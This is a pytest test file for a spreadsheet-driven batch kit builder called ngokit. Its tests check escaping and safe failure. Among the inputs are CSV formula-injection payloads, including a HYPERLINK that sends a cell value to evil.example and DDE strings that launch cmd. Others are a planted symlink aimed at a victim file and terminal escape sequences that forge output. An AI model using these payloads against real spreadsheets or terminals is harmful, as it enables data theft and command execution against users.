"""Workshop batch mode: spreadsheets as tools export them, pre-flight, parallel builds, report."""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import os
import signal
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from ngokit.batch import run_batch
from ngokit.batch.sheets import read_rows
from ngokit.build import BuildOptions
from ngokit.cli import cli
from ngokit.errors import NgokitError
from ngokit.kit import load_kit
from ngokit.output.slug import kit_slug


def report(out: Path) -> list[dict[str, str]]:
    with (out / "batch-report.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def run(*args) -> object:
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def write_csv(path: Path, text: str, bom: bool = False) -> Path:
    path.write_bytes(("\ufeff" if bom else "").encode() + text.encode("utf-8"))
    return path


def test_csv_with_bom_semicolons_floats_words_and_line_breaks(tmp_path, kit):
    sheet = write_csv(tmp_path / "s.csv", (
        "network_name;country;online_meetings;board_size_min;dual_signature_threshold;main_donors\n"
        "\"Red de Personas\nque Usan Drogas\";Mexico;Yes;5.0;5000.0;global_fund, foundations\n"
        "Second Net;ke;TRUE;3;;\n"
        ";;;;;\n\n"
    ), bom=True)  # fmt: skip
    rows = read_rows(sheet, kit.questionnaire)
    assert [r.number for r in rows] == [2, 3]
    result = run("batch", sheet, "--out", tmp_path / "kits", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert "2 built" in result.output
    statuses = {r["network"]: r["status"] for r in report(tmp_path / "kits")}
    assert statuses == {"Red de Personas\nque Usan Drogas": "built", "Second Net": "built"}


def test_xlsx_as_excel_saves_it(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["network_name", "country", "board_size_min", "online_meetings", "kit_date", "petty_cash_float"])
    sheet.append(["Excel Net", "KE", 5.0, True, datetime(2026, 3, 1), 2500.0])
    sheet.append([None] * 6)
    path = tmp_path / "s.xlsx"
    book.save(path)
    result = run("batch", path, "--out", tmp_path / "kits", "--jobs", "1")
    assert result.exit_code == 0, result.output
    answers = (tmp_path / "kits" / "excel-net" / "answers.yaml").read_text(encoding="utf-8")
    assert "kit_date: '2026-03-01'" in answers and "petty_cash_float: 2500" in answers


def test_bad_rows_are_reported_first_the_others_built_exit_1(tmp_path):
    sheet = write_csv(tmp_path / "s.csv", (
        "network_name,country,term_years,decision_rule\n"
        "Good One,KE,2,consensus\n"
        "Bad Country,Atlantis,2,consensus\n"
        ",KE,9,coin toss\n"
        "Good Two,UA,3,majority\n"
    ))  # fmt: skip
    result = run("batch", sheet, "--out", tmp_path / "kits", "--jobs", "2")
    assert result.exit_code == 1
    assert "Checked 4 rows: 2 ready to build, 2 with problems." in result.output
    assert "row 3 (Bad Country):" in result.output and "country:" in result.output
    assert "row 4 (no network name):" in result.output
    assert "term_years: must be at most 5" in result.output
    assert "2 built, 2 failed: see" in result.output
    rows = {r["row"]: r for r in report(tmp_path / "kits")}
    assert rows["2"]["status"] == rows["5"]["status"] == "built"
    assert rows["3"]["status"] == "invalid" and "country" in rows["3"]["errors"]
    assert not (tmp_path / "kits" / "bad-country").exists()


def test_two_rows_with_the_same_name_get_two_folders(tmp_path):
    sheet = write_csv(tmp_path / "s.csv", "network_name,country\nSame Name,KE\nSame Name,UA\n")
    assert run("batch", sheet, "--out", tmp_path / "kits", "--jobs", "1").exit_code == 0
    assert (tmp_path / "kits" / "same-name").is_dir() and (tmp_path / "kits" / "same-name-2").is_dir()


def test_existing_kits_are_kept_unless_force(tmp_path):
    sheet = write_csv(tmp_path / "s.csv", "network_name,country\nKept Net,KE\n")
    out = tmp_path / "kits"
    assert run("batch", sheet, "--out", out, "--jobs", "1").exit_code == 0
    marker = out / "kept-net" / "notes.txt"
    marker.write_text("mine", encoding="utf-8")
    again = run("batch", sheet, "--out", out, "--jobs", "1")
    assert again.exit_code == 0 and "1 unchanged" in again.output
    assert marker.exists()
    forced = run("batch", sheet, "--out", out, "--jobs", "1", "--force")
    assert forced.exit_code == 1 and "files ngokit did not make (notes.txt)" in forced.output
    assert marker.exists()
    marker.unlink()
    forced = run("batch", sheet, "--out", out, "--jobs", "1", "--force")
    assert forced.exit_code == 0 and "1 built" in forced.output


def test_an_interrupted_batch_leaves_complete_kits_and_resumes(tmp_path):
    sheet = write_csv(tmp_path / "s.csv", "network_name,country\nFirst,KE\nSecond,KE\nThird,KE\n")
    out = tmp_path / "kits"
    kit = load_kit()

    def stop_after_first(result):
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run_batch(sheet, kit, BuildOptions(out=out), jobs=1, on_progress=stop_after_first)
    assert sorted(p.name for p in out.iterdir()) == ["batch-report.csv", "first"]
    assert (out / "first" / "answers.yaml").is_file()
    statuses = [r["status"] for r in report(out)]
    assert statuses == ["built", "not built", "not built"]
    resumed = run_batch(sheet, kit, BuildOptions(out=out), jobs=1)
    assert [r.status for r in resumed.rows] == ["unchanged", "built", "built"]


def test_unknown_columns_stop_before_anything_is_built(tmp_path):
    sheet = write_csv(tmp_path / "s.csv", "network_name,country,colour\nNet,KE,red\n")
    result = run("batch", sheet, "--out", tmp_path / "kits")
    assert result.exit_code == 1
    assert "colour" in result.stderr
    assert not (tmp_path / "kits").exists()


def test_not_a_spreadsheet(tmp_path):
    path = tmp_path / "s.xlsx"
    path.write_text("not excel", encoding="utf-8")
    with pytest.raises(NgokitError, match="not a readable Excel file"):
        read_rows(path, load_kit().questionnaire)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_template_round_trips(tmp_path, suffix):
    template = tmp_path / f"networks{suffix}"
    assert run("batch-template", template).exit_code == 0
    if suffix == ".xlsx":  # a person copies the example row into the Networks sheet
        book = load_workbook(template)
        example = [c.value for c in book["Example"][3]]
        assert book["Networks"]["A2"].value == "network_name"
        assert book["Networks"]["A1"].comment is not None
        assert book["Networks"].data_validations.dataValidation  # drop-down lists
        for column, value in enumerate(example, start=1):
            book["Networks"].cell(row=3, column=column, value=value)
        book.save(template)
    else:  # a person turns the marked example row into their own network
        text = template.read_text(encoding="utf-8-sig")
        template.write_text(text.replace("(example) ", ""), encoding="utf-8-sig")
    result = run("batch", template, "--out", tmp_path / "kits", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert "1 built" in result.output


def test_template_is_not_overwritten(tmp_path):
    template = tmp_path / "t.csv"
    template.write_text("mine", encoding="utf-8")
    result = run("batch-template", template)
    assert result.exit_code == 1 and template.read_text(encoding="utf-8") == "mine"


# Folder names


@pytest.mark.parametrize("name", ["CON", "nul", "Aux", "com1", "LPT1", "prn", "COM\u00b9", "lpt9"])
def test_a_network_named_like_a_windows_device_gets_a_folder_windows_can_open(name):
    devices = {"con", "prn", "aux", "nul"} | {f"{d}{n}" for d in ("com", "lpt") for n in "0123456789"}
    slug = kit_slug(name)
    assert slug.split(".")[0] not in devices
    assert slug.startswith(name.lower()[:3])


# Hostile places to write: a missing or read-only folder, a full disk


def read_only_folder(path: Path) -> Path:
    """Make a folder this user cannot write in, or skip the test (root, with its override, can)."""
    path.mkdir()
    path.chmod(0o500)
    try:
        (path / "probe").touch()
    except PermissionError:
        return path
    (path / "probe").unlink()
    path.chmod(0o700)
    pytest.skip("this user may write in a read-only folder")


class FullDisk:
    """A file on a full disk: opening works, writing fails with ENOSPC (as on a real full disk)."""

    def __init__(self, stream):
        self.stream = stream

    def write(self, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def __getattr__(self, name):
        if name == "stream":  # not set yet: no recursion
            raise AttributeError(name)
        return getattr(self.stream, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.stream.close()


@contextlib.contextmanager
def disk_full(disk: Path):
    """Within the block, every file opened for writing under ``disk`` fails as on a full disk."""
    if not Path("/proc/self/fd").is_dir():
        pytest.skip("needs /proc to name open files")
    real_open = io.open

    def open_on_full_disk(file, mode="r", *args, **kwargs):
        stream = real_open(file, mode, *args, **kwargs)
        name = os.readlink(f"/proc/self/fd/{file}") if isinstance(file, int) else os.fspath(file)
        if set(mode) & set("wax+") and Path(name).resolve().is_relative_to(disk.resolve()):
            return FullDisk(stream)
        return stream

    io.open = open_on_full_disk  # type: ignore[assignment]
    try:
        yield
    finally:
        io.open = real_open


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_template_into_a_missing_folder_is_a_message(tmp_path, suffix):
    result = run("batch-template", tmp_path / "missing" / f"networks{suffix}")
    assert result.exit_code == 1
    assert "missing" in result.stderr and "folder" in result.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_template_on_a_full_disk_leaves_nothing(tmp_path, suffix):
    with disk_full(tmp_path):
        result = run("batch-template", tmp_path / f"networks{suffix}")
    assert result.exit_code == 1
    assert "No space left on device" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_the_template_into_a_read_only_folder_is_a_message(tmp_path):
    folder = read_only_folder(tmp_path / "ro")
    try:
        result = run("batch-template", folder / "networks.xlsx")
    finally:
        folder.chmod(0o700)
    assert result.exit_code == 1 and "Permission denied" in result.stderr
    assert list(folder.iterdir()) == []


# The report and the output folder


def write_rows(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', "=cmd|' /C calc'!A0", "+1+1", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "Net;=1+1", "Net\n=1+1", "\uff1d1+1"]  # fmt: skip


def test_the_report_never_runs_a_cell_as_a_formula(tmp_path):
    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"]] + [[name, "Atlantis"] for name in FORMULAS])
    result = run("batch", sheet, "--out", tmp_path / "kits")
    assert result.exit_code == 1
    text = (tmp_path / "kits" / "batch-report.csv").read_text(encoding="utf-8-sig")
    for delimiter in ",;":  # as Excel splits it where the list separator is a comma, and a semicolon
        for line in text.splitlines():
            for cell in csv.reader([line], delimiter=delimiter):
                assert not any(c.lstrip('"').startswith(("=", "+", "-", "@", "\uff1d")) for c in cell), line
    assert [r["network"] for r in report(tmp_path / "kits")][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]


def test_a_symlink_planted_at_the_old_partial_name_is_not_followed(tmp_path):
    out = tmp_path / "kits"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    (out / "batch-report.csv.partial").symlink_to(victim)
    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["Net", "Atlantis"]])
    assert run("batch", sheet, "--out", out).exit_code == 1
    assert victim.read_text(encoding="utf-8") == "precious"
    assert not (out / "batch-report.csv").is_symlink() and report(out)[0]["status"] == "invalid"
    assert sorted(p.name for p in out.iterdir()) == ["batch-report.csv", "batch-report.csv.partial"]


def test_the_report_gives_kit_folders_relative_to_itself(tmp_path):
    sheet = write_csv(tmp_path / "s.csv", "network_name,country\nSame Name,KE\nSame Name,UA\n")
    out = (tmp_path / "kits").absolute()
    assert run("batch", sheet, "--out", out, "--jobs", "2").exit_code == 0
    assert [r["kit_path"] for r in report(out)] == ["same-name", "same-name-2"]
    assert str(tmp_path) not in (out / "batch-report.csv").read_text(encoding="utf-8-sig")
    again = run("batch", sheet, "--out", out, "--jobs", "2")
    assert [r["kit_path"] for r in report(out)] == ["same-name", "same-name-2"] and again.exit_code == 0


def test_an_output_folder_under_a_file_is_a_message(tmp_path):
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["Net", "KE"]])
    result = run("batch", sheet, "--out", tmp_path / "notes.txt" / "kits")
    assert result.exit_code == 1
    assert "notes.txt is a file, not a folder" in result.stderr and "--out" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.txt", "s.csv"]


def test_a_read_only_output_folder_is_a_message_and_nothing_is_built(tmp_path):
    out = read_only_folder(tmp_path / "kits")
    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["Net", "KE"]])
    try:
        result = run("batch", sheet, "--out", out)
    finally:
        out.chmod(0o700)
    assert result.exit_code == 1
    assert "cannot write in" in result.stderr and "Permission denied" in result.stderr
    assert list(out.iterdir()) == []


def test_a_full_disk_is_a_message_and_leaves_nothing(tmp_path):
    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["Net", "KE"]])
    disk = tmp_path / "disk"
    disk.mkdir()
    with disk_full(disk):
        result = run("batch", sheet, "--out", disk / "kits")
    assert result.exit_code == 1
    assert "No space left on device" in result.stderr and "Traceback" not in result.output
    assert list(disk.iterdir()) == []


def test_kits_finished_while_stopping_are_reported_built(tmp_path):
    sheet = write_csv(tmp_path / "s.csv", "network_name,country\nFirst,KE\nSecond,KE\nThird,KE\n")
    out = tmp_path / "kits"

    def stop_after_first(result):
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run_batch(sheet, load_kit(), BuildOptions(out=out), jobs=2, on_progress=stop_after_first)
    folders = {p.name for p in out.iterdir() if p.is_dir()}
    built = {r["kit_path"] for r in report(out) if r["status"] == "built"}
    assert folders == built and len(built) >= 2
    assert not list(out.glob(".ngokit-work-*"))


# What reaches the terminal


def test_data_reaches_the_terminal_as_visible_codes(tmp_path):
    forged = "Evil\x1b[2J\x1b[H\x1b]0;owned\x075 built, none failed\x9b31m"
    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], [forged, "KE"]])
    result = run("batch", sheet, "--out", tmp_path / "kits")
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\x9b" not in result.output and "\x07" not in result.output
    assert "Evil\\x1b[2J\\x1b[H\\x1b]0;owned\\x075 built, none failed\\x9b31m" in result.output
    unknown = write_rows(tmp_path / "u.csv", [["network_name", "country", "\x1b[2Jcolour"], ["Net", "KE", "red"]])
    result = run("batch", unknown, "--out", tmp_path / "kits")
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\\x1b[2Jcolour" in result.stderr


def test_a_name_that_looks_like_rich_markup_is_printed_as_is(tmp_path, monkeypatch):
    def failing_build(answers, options, kit):
        raise NgokitError("the disk is full [bold]")

    monkeypatch.setattr("ngokit.batch.pool.build_kit", failing_build)
    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["[/x] Net [red]", "KE"], ["After", "KE"]])
    result = run("batch", sheet, "--out", tmp_path / "kits", "--jobs", "1")
    assert result.exit_code == 1
    assert "row 2 ([/x] Net [red]): the disk is full [bold]" in result.stderr
    assert [r["status"] for r in report(tmp_path / "kits")] == ["failed", "failed"]


# Jobs and signals


def test_jobs_are_capped_at_the_cores_and_the_kits_to_build(tmp_path, monkeypatch):
    import ngokit.batch.pool

    asked = []

    class Spy(ngokit.batch.pool.ProcessPoolExecutor):
        def __init__(self, max_workers=None, **kwargs):
            asked.append(max_workers)
            super().__init__(max_workers=max_workers, **kwargs)

    monkeypatch.setattr(ngokit.batch.pool, "ProcessPoolExecutor", Spy)
    monkeypatch.setattr(os, "cpu_count", lambda: 2)
    if hasattr(os, "sched_getaffinity"):
        monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {0, 1})
    sheet = write_csv(tmp_path / "s.csv", "network_name,country\nOne,KE\nTwo,KE\nThree,KE\n")
    result = run("batch", sheet, "--out", tmp_path / "kits", "--jobs", "1000")
    assert result.exit_code == 0, result.output
    assert asked == [2]
    assert "--jobs 1000: this computer has 2 CPU cores" in result.stderr


def start_batch(tmp_path: Path, rows: int) -> tuple[subprocess.Popen, Path]:
    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"]] + [[f"Net {n}", "KE"] for n in range(rows)])
    out = tmp_path / "kits"
    command = [sys.executable, "-m", "ngokit", "batch", str(sheet), "--out", str(out), "--jobs", "2"]
    process = subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               start_new_session=True)  # fmt: skip
    deadline = time.monotonic() + 120
    while not list(out.glob("*/answers.yaml")):
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline, "no kit built in two minutes"
        time.sleep(0.05)
    return process, out


def assert_stopped_cleanly(out: Path) -> None:
    rows = report(out)
    built = {r["kit_path"] for r in rows if r["status"] == "built"}
    assert built == {p.name for p in out.iterdir() if p.is_dir()}
    assert all((out / folder / "answers.yaml").is_file() for folder in built)
    assert {r["status"] for r in rows} == {"built", "not built"}
    assert not list(out.glob(".ngokit-work-*")) and not list(out.glob(".*partial"))


@pytest.mark.parametrize(("signal_number", "exit_code", "whole_group"),
                         [(signal.SIGTERM, 143, False), (signal.SIGINT, 130, True)])  # fmt: skip
def test_a_stopped_batch_writes_its_report_and_leaves_complete_kits(tmp_path, signal_number, exit_code, whole_group):
    """SIGTERM (kill, a service stopping) to the batch, and Ctrl-C as a terminal sends it: to every process."""
    process, out = start_batch(tmp_path, 40)
    try:
        if whole_group:
            os.killpg(process.pid, signal_number)
        else:
            process.send_signal(signal_number)
        _, stderr = process.communicate(timeout=120)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
    assert process.returncode == exit_code, stderr
    assert "Traceback" not in stderr and "run the same command again" in stderr
    assert_stopped_cleanly(out)


def test_a_build_warning_is_reported_for_its_row(tmp_path):
    """Kits built with a reference that lacks a style keep it when the batch rebuilds them: the
    warning, naming the kit's own copy, goes in the row's cell of the report and on the screen."""
    import docx

    plain = tmp_path / "plain.docx"
    docx.Document().save(str(plain))
    out = tmp_path / "kits"
    for name in ("Net One", "Net Two"):
        answers = write_csv(tmp_path / "a.yaml", f"network_name: {name}\ncountry: KE\nkit_date: 2026-01-15\n")
        assert run("build", answers, "--out", out, "--reference-docx", plain).exit_code == 0
    text = "network_name,country,kit_date\nNet One,KE,2026-01-15\nNet Two,UA,2026-01-15\n"
    sheet = write_csv(tmp_path / "s.csv", text)
    result = run("batch", sheet, "--out", out, "--force")
    assert result.exit_code == 0, result.output
    rows = report(out)
    assert [r["kit_path"] for r in rows] == ["net-one", "net-two"]  # both built again, with their reference
    for row, folder in zip(rows, ("net-one", "net-two"), strict=True):
        assert row["errors"] == "" and '"Guidance"' in row["warnings"]
        assert str(Path(folder) / "reference.docx") in row["warnings"]
    assert "row 2 (Net One): warning: the reference document" in " ".join(result.output.split())
    assert "row 3 (Net Two): warning: the reference document" in " ".join(result.output.split())
